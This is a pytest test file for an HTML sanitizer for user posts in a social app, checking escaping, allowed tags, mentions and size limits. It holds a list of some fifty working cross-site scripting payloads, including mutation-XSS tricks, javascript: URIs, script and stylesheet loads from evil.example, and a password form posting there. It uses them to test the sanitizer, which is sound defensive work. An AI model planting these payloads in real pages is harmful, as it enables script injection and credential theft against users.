"""What is left of a text: nothing that runs, loads or deceives. No database."""

import html
import re

import pytest

from domain.policy import limits
from domain.policy.social import TAGS
from domain.shared.errors import RuleBroken
from domain.social.errors import TextEmpty, TextTooLarge, TooManyMentions, TooMuchMarkup, UnshowableCharacter
from domain.social.rules import check_text

PERSON = "01981f6e-7c3a-7b1e-8f10-3a5d5c1b0a31"
# Ways to make a browser run something, by what each of them relies on.
ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.png">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example/login'>x</a>",
    "<a href='/api/v1/auth/logout'>x</a>",
    "<a href='https:/api/v1/auth/logout'>x</a>",
    "<a href='https:api/v1/auth/logout'>x</a>",
    "<a href='https://ok.example' onclick=alert(1) style='position:fixed' target=_top id=x class=y>x</a>",
    "<a href='https://ok.example' rel='opener'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p onmouseover=alert(1)>x</p>",
    "<b/onclick=alert(1)//>x</b>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><img src=x onerror=alert(1)>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<b><a href='https://ok.example/\"><script>alert(1)</script>'>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)
TAG = re.compile(r"</?([a-z0-9]+)((?: [^<>]*)?)>")
LINK = re.compile(r'(?: href="(?:https?://[^/"<>]|mailto:)[^"<>]*")? rel="nofollow noopener noreferrer"')


@pytest.mark.parametrize("attack", ATTACKS)
def test_text__that_attacks__keeps_nothing_but_harmless_tags(attack):
    body = check_text(f"<p>before</p>{attack}", most=limits.POST_LENGTH_MAX).body

    for name, attributes in TAG.findall(body):
        assert name in TAGS
        assert LINK.fullmatch(attributes) if attributes and name == "a" else attributes == "", body
    # What is no tag of ours is text, where no browser sees a tag.
    assert not {"<", ">"} & set(TAG.sub("", body)), body
    again = check_text(body, most=limits.POST_LENGTH_MAX)
    assert again.body == body
    assert "<script" not in body.lower()


@pytest.mark.parametrize(
    ("written", "body", "plain"),
    [
        ("Hello", "Hello", "Hello"),
        ("a < b & c", "a &lt; b &amp; c", "a < b & c"),
        ("<p>One</p><p>two<br>three</p>", "<p>One</p><p>two<br>three</p>", "One two three"),
        ("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>", "a b"),
        ("<b>bold</b> <font color=red>red</font>", "<b>bold</b> red", "bold red"),
        (
            '<a href="mailto:help@demo.example">write</a>',
            '<a href="mailto:help@demo.example" rel="nofollow noopener noreferrer">write</a>',
            "write",
        ),
        ("Xin chào các bạn", "Xin chào các bạn", "Xin chào các bạn"),
    ],
)
def test_text__in_little_html__is_kept_with_its_words(written, body, plain):
    found = check_text(written, most=1_000)

    assert (found.body, found.plain, found.mentions) == (body, plain, ())


def test_text__naming_people__tells_each_once():
    found = check_text(f"<p>@{{{PERSON}}} and <b>@{{{PERSON.upper()}}}</b>, @{{nobody}}</p>", most=1_000)

    assert [str(each) for each in found.mentions] == [PERSON]


MANY = "".join(f"@{{01981f6e-7c3a-7b1e-8f10-3a5d5c1b{number:04x}}}" for number in range(limits.MENTIONS_MAX + 1))


@pytest.mark.parametrize(
    ("written", "refusal"),
    [
        ("<script>alert(1)</script>", TextEmpty),
        ("<p> &nbsp; <br></p>", TextEmpty),
        ("<p>&#8203;&shy;&#x2060;</p>", TextEmpty),
        ("<p>ring&#7;</p>", UnshowableCharacter),
        ("<p>two&#x2028;lines</p>", UnshowableCharacter),
        ("<p>" + "x" * 995 + "</p>", TextTooLarge),
        ("<" * 300 + "x", TextTooLarge),  # each of them is kept as four characters
        ("<b>" * (limits.MARKUP_TAGS_MAX + 1) + "x", TooMuchMarkup),
        (MANY, TooManyMentions),
    ],
)
def test_text__that_can_not_be_taken__is_refused(written, refusal):
    with pytest.raises(refusal):
        check_text(written, most=1_000)


def test_text__whose_open_tags_would_multiply__is_refused_before_it_grows():
    # Each paragraph opens again what is still open: 18 KB would become 15 MB.
    growing = "<p>" + "".join(f"<b a={number}>" for number in range(800)) + "<p>x" * 2_800

    with pytest.raises(RuleBroken) as refused:
        check_text(growing, most=limits.POST_LENGTH_MAX)

    assert refused.value.code == "too_much_markup"


def test_words__of_a_text__are_those_that_people_read():
    assert check_text("<pre>&lt;p&gt;</pre>", most=100).plain == html.unescape("&lt;p&gt;")
